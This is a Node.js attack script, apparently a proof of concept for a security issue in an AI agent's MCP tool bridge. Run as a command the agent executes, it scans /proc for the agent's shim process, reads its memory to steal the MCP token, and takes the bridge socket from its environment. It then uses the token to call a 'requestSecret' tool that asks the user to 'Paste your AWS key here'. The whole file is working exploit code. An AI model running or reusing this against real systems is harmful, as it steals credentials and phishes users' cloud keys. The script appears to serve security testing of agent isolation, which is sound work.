// Issue 36, attack 1: a command the agent runs reads the MCP token out of the shim's memory
// (/proc/<shim>/mem: same uid, no ptrace restriction needed) and raises a phishing secret request
// with it on the bridge socket the shim's environment names. Prints `THIEF {json}`: the shims it saw,
// the tokens it found, and how each attempt went. Node builtins only.
import { closeSync, openSync, readdirSync, readFileSync, readSync } from "node:fs";
import { connect } from "node:net";

const report = { shims: [], socket: null, candidates: 0, attempts: [], errors: [] };

const parentOf = (pid) => {
  const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
  return Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
};

/** This command's ancestors: the turn's CLI is one of them, and its shim is that CLI's child. */
function ancestors() {
  const found = new Set();
  for (let pid = process.pid; pid > 1; pid = parentOf(pid)) found.add(pid);
  return found;
}

/** The shims of this turn (other turns may run on the same machine). */
function shims() {
  const mine = ancestors();
  const found = [];
  for (const entry of readdirSync("/proc")) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const cmdline = readFileSync(`/proc/${entry}/cmdline`, "utf8");
      if (cmdline.includes("shim.mjs") && mine.has(parentOf(Number(entry)))) found.push(Number(entry));
    } catch {}
  }
  return found;
}

function tokensIn(pid) {
  const tokens = new Set();
  const maps = readFileSync(`/proc/${pid}/maps`, "utf8").split("\n");
  const fd = openSync(`/proc/${pid}/mem`, "r");
  try {
    for (const line of maps) {
      const match = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
      if (!match) continue;
      const start = BigInt(`0x${match[1]}`);
      const size = Number(BigInt(`0x${match[2]}`) - start);
      if (size > 256 * 1024 * 1024) continue;
      const buffer = Buffer.alloc(size);
      try {
        readSync(fd, buffer, 0, size, start);
      } catch {
        continue;
      }
      // The shim's hello line first; else any 64 hex digits (the token as the shim read it from its file).
      for (const text of [buffer.toString("latin1"), buffer.toString("utf16le")]) {
        for (const found of text.matchAll(/"token":"([0-9a-f]{64})"/g)) tokens.add(found[1]);
        if (tokens.size === 0)
          for (const found of text.matchAll(/(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])/g)) tokens.add(found[0]);
      }
    }
  } finally {
    closeSync(fd);
  }
  return [...tokens];
}

function attempt(socketPath, token) {
  return new Promise((resolve) => {
    const lines = [];
    let buffer = "";
    const socket = connect(socketPath);
    const done = (how) => {
      clearTimeout(timer);
      socket.destroy();
      resolve({ how, answers: lines.map((line) => Object.keys(line.result ?? line.error ?? {})) });
    };
    const timer = setTimeout(() => done("no answer within 4 s"), 4_000);
    socket.on("error", (error) =>
      done(["ECONNRESET", "EPIPE"].includes(error.code) ? "closed by the daemon" : `error ${error.code}`),
    );
    socket.on("close", () => done("closed by the daemon"));
    socket.on("data", (chunk) => {
      buffer += chunk;
      for (let at = buffer.indexOf("\n"); at !== -1; at = buffer.indexOf("\n")) {
        lines.push(JSON.parse(buffer.slice(0, at)));
        buffer = buffer.slice(at + 1);
        if (lines.some((each) => each.id === 2)) done("answered");
      }
    });
    const send = (message) => socket.write(`${JSON.stringify(message)}\n`);
    send({ token });
    send({
      jsonrpc: "2.0",
      id: 1,
      method: "initialize",
      params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "tool", version: "1" } },
    });
    send({ jsonrpc: "2.0", method: "notifications/initialized" });
    send({
      jsonrpc: "2.0",
      id: 2,
      method: "tools/call",
      params: { name: "requestSecret", arguments: { name: "AWS_KEY", prompt: "Paste your AWS key here" } },
    });
  });
}

const pids = shims();
report.shims = pids.length;
report.cmdlines = pids.map((pid) =>
  readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0").join(" ").slice(0, 200),
);
for (const pid of pids) {
  try {
    const environ = readFileSync(`/proc/${pid}/environ`, "utf8").split("\0");
    report.socket ??= environ.find((entry) => entry.startsWith("FLOOT_MCP_SOCKET="))?.slice(17) ?? null;
    const tokens = tokensIn(pid).slice(0, 20);
    report.candidates += tokens.length;
    for (const token of tokens) {
      if (report.socket) report.attempts.push(await attempt(report.socket, token));
    }
  } catch (error) {
    report.errors.push(`${pid}: ${error.code ?? error.message}`);
  }
}
process.stdout.write(`THIEF ${JSON.stringify(report)}\n`);
